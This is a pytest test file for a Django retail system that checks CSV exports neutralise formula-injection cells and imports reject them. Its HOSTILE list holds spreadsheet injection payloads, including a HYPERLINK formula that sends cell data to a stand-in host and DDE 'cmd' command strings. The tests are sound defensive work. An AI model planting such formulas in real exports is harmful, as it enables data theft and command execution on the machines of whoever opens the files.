"""Issue 13 finding 7: CSV formula injection. Exports neutralise, imports refuse."""

import csv
import io
import re
import uuid
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from customers.imports import import_customers, text_opener
from customers.models import Customer
from inventory import services as inventory
from inventory.catalog_import import import_catalog
from inventory.models import Product
from retail.spreadsheets import safe_cell
from tests.factories import StoreFactory
from tests.inventory.factories import VariantFactory

pytestmark = pytest.mark.django_db
HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "+1+cmd|x",
    "-2+3+cmd|x",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_are_shown_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada", "-5.00", "+44 20 7946 0000", "2026-01-02", 12, None, ""])
def test_ordinary_cells_are_untouched(value):
    assert safe_cell(value) == value


def test_every_csv_writer_uses_the_one_helper():
    root = Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(root))
        for app in ("retail", "customers", "inventory", "orders", "insights")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path.name != "spreadsheets.py"
    ]
    assert offenders == []


def test_a_guests_name_comes_out_of_the_order_and_customer_exports_as_text(api_client, tmp_path):
    store = StoreFactory(code="LON-01")
    variant = VariantFactory(sku="SHIRT-M", product__base_price="30.00")
    inventory.receive_stock(location=store, lines=[(variant, 5)], reference="PO-1")
    name = HOSTILE[1]
    # given a guest who checked out under a formula for a name
    response = api_client.post(
        "/api/v1/orders/",
        {
            "channel": "web",
            "lines": [{"sku": "SHIRT-M", "quantity": 1}],
            "fulfillment": {"kind": "pickup", "store": "LON-01"},
            "contact": {"name": name, "email": "guest@example.com"},
            "payments": [{"method": "card", "token": "tok_visa_4242"}],
        },
        format="json",
        HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4()),
    )
    assert response.status_code == 201, response.content
    # when head office exports orders and customers
    orders_csv, customers_csv = tmp_path / "orders.csv", tmp_path / "customers.csv"
    call_command("export_orders", "-o", str(orders_csv))
    from tests.factories import UserFactory

    staff = UserFactory(is_staff=True, is_superuser=True)
    call_command("export_customers", "--service", "--user", staff.email, "-o", str(customers_csv))
    # then no cell of either file starts with a formula character
    for path in (orders_csv, customers_csv):
        cells = [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
        assert not [c for c in cells if c and (c[0] in "=+@" or (c[0] == "-" and "cmd" in c))], path.name
        assert any(c.startswith("'=cmd") for c in cells), path.name


def test_a_customer_import_refuses_formula_cells_and_stores_nothing():
    text = 'email,first_name,last_name\nmal@example.com,=HYPERLINK("http://x"),Doe\nok@example.com,Ok,Fine\n'
    report = import_customers(opener=text_opener(text))
    assert any("line 2" in e and "formula" in e for e in report.errors), report.errors
    assert not Customer.objects.filter(email="mal@example.com").exists()


def test_a_catalog_import_refuses_formula_cells_and_stores_nothing():
    text = "style_code,name,category,base_price,sku\nTS-1,@SUM(1+1)*cmd|x,Men/Tops,19.99,TS-1-M\n"
    report = import_catalog(text=text)
    assert report.errors and "formula" in report.errors[0]
    assert not Product.objects.exists()
